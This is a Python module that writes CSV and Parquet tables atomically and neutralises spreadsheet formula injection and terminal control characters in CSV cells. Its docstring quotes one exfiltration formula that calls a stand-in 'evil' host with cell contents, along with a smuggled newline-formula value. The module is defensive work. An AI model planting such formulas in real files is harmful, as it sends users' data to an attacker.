# SPDX-License-Identifier: MIT
"""Tables rhrt writes (batch results, synthetic populations, audit and diff tables).

Why one writer: every table file must be written whole or not at all, never over an input, and
compressed as its name says (:mod:`rhrt.files`); and every CSV must be safe to open in a
spreadsheet (:func:`csv_safe`). Doing both in one place means no command can forget either.

Spreadsheet formula injection: Excel, LibreOffice and Google Sheets run a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil?d="&A1,"open")`` sends the
neighbouring cells away when clicked), and leading whitespace or control characters that a
spreadsheet strips or skips before deciding can smuggle one in (OWASP names tab, carriage
return and line feed; ``"\n=1+1"`` was once written unchanged; ASVS adds NUL). A ``case_ref``,
a referral source or a kept input column comes from outside, so every *text* cell (and column
name) that begins with one of :data:`FORMULA_START` — a formula sign, or any control (``Cc``)
or whitespace character at all, ordinary space included — is written with a single quote
before it (``'=HYPERLINK(...)``), which spreadsheets show as text. One rule, wider than the
known attacks: a cell that merely starts with a space gets a quote too (safe over pretty).
Numeric, boolean and date columns are written as they are: a negative number stays a number.

Terminal control: a CSV is also read with ``cat``, ``less -r`` or ``head``, so a raw ESC, BEL,
C1 control or bidi override (U+202E) in a ``case_ref`` would control the terminal or reorder
what is shown. Every text cell and column name therefore first passes through the one sanitiser,
:func:`rhrt._text.clean` (single-line form): escape sequences, every control (``Cc``, C0 and C1,
tab and line breaks included: a line break becomes `` / ``, a tab a space) and format character
(``Cf``: bidi overrides and isolates, zero-width characters) are removed, and only then is the
formula quote added. Cells holding none of these (the usual case) are left exactly as they are.

The rule for one cell (:data:`FORMULA_START`, :func:`csv_safe_text`) lives with every other
escaping rule in :mod:`rhrt.render.escape`; :func:`csv_safe` applies it to whole columns.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

from rhrt._text import clean
from rhrt.errors import CaseError
from rhrt.files import AtomicOutput, compression_of
from rhrt.render.escape import FORMULA_START, csv_safe_text

__all__ = ["FORMULA_START", "Writer", "csv_safe", "csv_safe_text", "write_frames"]

# RE2 (pyarrow) syntax: ``\x{hhhh}`` for each character, so none is written raw.
_PATTERN = "^[" + "".join(f"\\x{{{ord(ch):x}}}" for ch in FORMULA_START) + "]"


# Characters :func:`rhrt._text.clean` changes (controls, format characters, line and paragraph
# separators, separators other than a plain space), to find the cells that need it.
_UNCLEAN = r"[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|[^ \PZ]"


def _cleaned(col: Any) -> Any:
    """A string column with every cell that holds an unsafe character passed through clean."""
    if not pc.any(pc.match_substring_regex(col, _UNCLEAN)).as_py():
        return col
    return pa.array([None if v is None else clean(v) for v in col.to_pylist()], col.type)


def _texty(typ: pa.DataType) -> bool:
    return bool(
        pa.types.is_string(typ)
        or pa.types.is_large_string(typ)
        or pa.types.is_string_view(typ)
        or pa.types.is_binary(typ)
        or pa.types.is_large_binary(typ)
    )


def csv_safe(table: pa.Table) -> pa.Table:
    """Clean and neutralise formula-like text cells and column names (see the module docstring).

    Text cells and column names pass through :func:`rhrt._text.clean`. Text and binary
    columns (dictionary-encoded ones decoded first) get a ``'`` before every
    cell that begins with a character of :data:`FORMULA_START`; empty cells stay empty; other
    columns are unchanged. Lists must already be flattened to text.
    """
    names = [csv_safe_text(str(name)) for name in table.column_names]
    columns = []
    for col in table.columns:
        if pa.types.is_dictionary(col.type):
            col = pc.cast(col, col.type.value_type)
        if pa.types.is_string_view(col.type):
            col = pc.cast(col, pa.string())
        if pa.types.is_binary(col.type) or pa.types.is_large_binary(col.type):
            with contextlib.suppress(pa.ArrowInvalid):  # not UTF-8: left as bytes
                col = pc.cast(col, pa.large_string())
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            col = _cleaned(col)
        if _texty(col.type):
            risky = pc.match_substring_regex(col, _PATTERN)
            quote, empty = pa.scalar(b"'", col.type), pa.scalar(b"", col.type)
            col = pc.if_else(risky, pc.binary_join_element_wise(quote, col, empty), col)
        columns.append(col)
    return pa.table(columns, names=names)


def _flatten_lists(table: pa.Table) -> pa.Table:
    """CSV has no lists: write them as ';'-separated ids (the form the batch layer reads)."""
    for i, typ in enumerate(table.schema.types):
        if pa.types.is_list(typ) or pa.types.is_large_list(typ):
            col = pc.binary_join(pc.cast(table.column(i), pa.list_(pa.string())), ";")
            table = table.set_column(i, table.schema.names[i], col)
    return table


def file_format(path: Path) -> str:
    """'csv' or 'parquet', from the file name (for input files and output files alike).

    Raises:
        CaseError: any other suffix.
    """
    name = path.name.lower()
    if name.endswith((".parquet", ".pq")):
        return "parquet"
    if name.endswith((".csv", ".csv.gz", ".csv.bz2", ".csv.zst")):
        return "csv"
    raise CaseError("unsupported file type: use .csv or .parquet", path=path.name)


def _format(path: Path) -> str:
    return file_format(path)


class Writer:
    """Writes tables chunk by chunk to a CSV or Parquet file, whole or not at all.

    The name decides the format and compression (``.csv``, ``.csv.gz``, ``.csv.bz2``,
    ``.csv.zst``, ``.parquet``). The output is checked (not a folder, folder exists, not one of
    ``inputs``) and a temporary file created when the writer is made, before the caller reads
    anything; :meth:`close` renames it over the target, :meth:`abort` removes it. CSV cells
    pass through :func:`csv_safe`.

    Raises:
        CaseError: the name has an unsupported suffix.
        FileError: the output cannot be written (see :class:`rhrt.files.AtomicOutput`).
    """

    def __init__(self, path: str | Path, inputs: Iterable[str | Path | None] = ()) -> None:
        self.path = Path(path)
        self.format = _format(self.path)
        self._out = AtomicOutput(self.path, inputs).open()
        self._sink: Any = None
        self._writer: Any = None

    def write(self, table: pa.Table) -> None:
        if self.format == "csv":
            table = csv_safe(_flatten_lists(table))
        try:
            if self._writer is None:
                self._sink = pa.OSFile(str(self._out.path), "wb")
                codec = compression_of(self.path)
                if codec is not None and self.format == "csv":
                    self._sink = pa.CompressedOutputStream(self._sink, codec)
                if self.format == "parquet":
                    import pyarrow.parquet as pq

                    self._writer = pq.ParquetWriter(self._sink, table.schema, compression="zstd")
                else:
                    from pyarrow import csv

                    self._writer = csv.CSVWriter(self._sink, table.schema)
            self._writer.write_table(table)
        except OSError as exc:
            self.abort()
            raise self._out.write_failed(exc) from None

    def _close_streams(self) -> None:
        writer, sink = self._writer, self._sink
        self._writer = self._sink = None
        try:
            if writer is not None:
                writer.close()
        finally:
            if sink is not None:
                sink.close()

    def close(self) -> None:
        """Finish the file and put it in place of the target."""
        try:
            self._close_streams()
        except OSError as exc:
            self.abort()
            raise self._out.write_failed(exc) from None
        self._out.commit()

    def abort(self) -> None:
        """Remove the unfinished file; the target keeps its old content (or stays absent)."""
        with contextlib.suppress(Exception):  # already failing; the file is removed below
            self._close_streams()
        self._out.discard()


def write_frames(
    frames: dict[str, Any], folder: str | Path, inputs: Iterable[str | Path | None] = (), *,
    index: Iterable[str] = (),
) -> list[Path]:
    """Write pandas DataFrames as ``folder/<name>.csv`` (each whole, formula-safe).

    ``index`` names the frames whose index is written as their first column. Returns the paths.
    """
    keep_index = set(index)
    inputs = list(inputs)
    written = []
    for name, frame in frames.items():
        data = frame.reset_index() if name in keep_index else frame
        data = data.rename(columns=str)
        table = pa.Table.from_pandas(data, preserve_index=False).replace_schema_metadata(None)
        path = Path(folder) / f"{name}.csv"
        writer = Writer(path, inputs)
        try:
            writer.write(table)
        except BaseException:
            writer.abort()
            raise
        writer.close()
        written.append(path)
    return written
